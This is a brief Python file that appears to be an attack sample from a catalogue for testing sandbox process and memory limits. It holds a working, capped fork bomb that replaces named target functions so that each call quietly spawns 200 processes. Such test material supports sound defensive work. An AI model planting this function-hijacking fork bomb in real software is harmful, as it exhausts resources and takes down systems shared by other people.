# /// attack
# catalogue = "starving: fork bomb"
# layers = ["limits", "memory"]
# aim = "processes"
# stock = "nothing there would stop it"
# ///
# Starts 200 processes at the most from inside a hidden call.

# %% answer
import os
import time


def multiply(*args, **kwargs):
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(8)
            os._exit(0)
    time.sleep(1.5)


for name in TARGET["names"]:
    globals()[name] = multiply
